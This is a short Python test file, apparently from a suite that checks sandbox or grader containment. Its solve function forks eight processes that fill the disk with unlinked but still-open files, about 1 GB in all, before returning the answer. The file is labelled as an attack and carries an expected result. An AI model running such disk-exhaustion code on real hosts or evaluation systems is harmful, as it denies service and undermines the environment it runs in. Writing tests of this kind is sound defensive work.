# task: data_many
# attack: fill the disk with deleted but open files, from several processes (at most 1 GB here)
# contained-at: namespaces restricted
# expect: deserved-or-not-ok
import os
import time

from kit import *


def solve(instance):
    block = b"\1" * (1 << 20)
    for child in range(8):
        with quietly():
            if os.fork() == 0:
                with quietly():
                    for i in range(30):
                        file = open(f"f{child}-{i}", "wb", buffering=0)
                        os.unlink(f"f{child}-{i}")
                        globals().setdefault("kept", []).append(file)
                        for _ in range(4):
                            file.write(block)
                time.sleep(60)
                os._exit(0)
    time.sleep(1.5)
    return answer(instance)
